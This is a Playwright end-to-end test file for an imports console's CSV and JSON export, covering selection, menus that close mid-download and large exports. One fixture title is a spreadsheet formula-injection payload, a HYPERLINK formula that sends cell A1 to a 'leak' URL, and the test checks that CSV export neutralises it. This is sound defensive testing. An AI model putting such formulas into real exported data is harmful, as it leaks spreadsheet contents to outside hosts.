import { readFile } from 'node:fs/promises'
import type { Locator, Page } from '@playwright/test'
import type { Import } from '../src/contract/import.ts'
import { readCsv } from '../src/contract/csv/read-csv.ts'
import { expect, test } from './console.ts'
import { openMenu, searchBox, selection } from './screens.ts'

async function save(page: Page, button: Locator): Promise<{ name: string; text: string }> {
  const [download] = await Promise.all([page.waitForEvent('download'), button.click()])
  return { name: download.suggestedFilename(), text: await readFile(await download.path(), 'utf8') }
}

test('exports what is selected or matches, also when the menu closes over it', async ({
  page,
  oddConsole: console,
}) => {
  await test.step('exports what is selected as CSV and as JSON', async () => {
    await console.open()
    await searchBox(page).fill('hyperlink')
    await page.getByRole('checkbox', { name: /^Select =HYPERLINK/ }).check()
    await searchBox(page).fill('vendors EMEA')
    await page.getByRole('checkbox', { name: 'Select Approved vendors EMEA' }).check()
    const bar = selection(page)

    const csv = await save(page, bar.getByRole('button', { name: 'Export 2 imports as CSV' }))
    expect(csv.name).toMatch(/^imports-\d{4}-\d\d-\d\d-\d{4}\.csv$/)
    expect(csv.text.startsWith('\uFEFF')).toBe(true)
    const [header, ...records] = readCsv(csv.text.slice(1))
    expect(header).toEqual(
      expect.arrayContaining(['id', 'title', 'status', 'failedReason', 'count', 'createdAt']),
    )
    const titles = records.map((record) => record[header!.indexOf('title')])
    expect(titles).toEqual([
      'Approved vendors EMEA',
      `'=HYPERLINK("https://example.com/?leak="&A1,"Open the list")`,
    ])
    await expect(bar).toContainText(`Exported 2 imports to ${csv.name}`)

    const json = await save(page, bar.getByRole('button', { name: 'Export 2 imports as JSON' }))
    expect(json.name).toMatch(/\.json$/)
    const imports = JSON.parse(json.text) as Import[]
    // JSON is for programs: the title is as it came.
    expect(imports.map(({ title }) => title)).toEqual([
      'Approved vendors EMEA',
      '=HYPERLINK("https://example.com/?leak="&A1,"Open the list")',
    ])
  })

  await test.step('saves what was begun when the menu closes over it', async () => {
    await console.open()
    const menu = await openMenu(page, 'Export')
    const button = menu.getByRole('button', { name: 'Export the 60 imports that match as CSV' })
    const downloaded = page.waitForEvent('download')
    // Both before the first import is written: sixty take less time than a key.
    await button.evaluate((element: HTMLElement) => {
      element.click()
      element.closest<HTMLElement>('[popover]')?.hidePopover()
    })
    await expect(menu).toHaveCount(0)
    const download = await downloaded
    const text = await readFile(await download.path(), 'utf8')
    expect(readCsv(text.slice(1))).toHaveLength(61)
  })

  await test.step('has nothing to export where nothing matches', async () => {
    await console.open('/imports?q=nowhere')
    const menu = await openMenu(page, 'Export')
    const button = menu.getByRole('button', { name: /as CSV$/ })
    await expect(button).toHaveAttribute('aria-disabled', 'true')
    await expect(button).toHaveAttribute('title', 'There is nothing to export')
  })
})

test('exports all that match of a thousand', async ({ page, startConsole }) => {
  const console = await startConsole({ env: { SANDBOX_IMPORTS: '1000' } })
  await console.open()
  await expect(page.getByText('1,000 imports', { exact: true })).toBeVisible()
  const menu = await openMenu(page, 'Export')
  const csv = await save(
    page,
    menu.getByRole('button', { name: 'Export the 1,000 imports that match as CSV' }),
  )
  expect(readCsv(csv.text.slice(1))).toHaveLength(1_001)

  await console.open('/imports?status=completed&format=webset&sort=title')
  await expect(page.getByText(/^\d+ matches of 1,000 imports$/)).toBeVisible()
  const filtered = await openMenu(page, 'Export')
  const json = await save(page, filtered.getByRole('button', { name: /that match as JSON$/ }))
  const imports = JSON.parse(json.text) as Import[]
  await expect(page.getByText(`${imports.length} matches of 1,000 imports`)).toBeVisible()
  expect(new Set(imports.map(({ status, format }) => `${status} ${format}`))).toEqual(
    new Set(['completed webset']),
  )
})
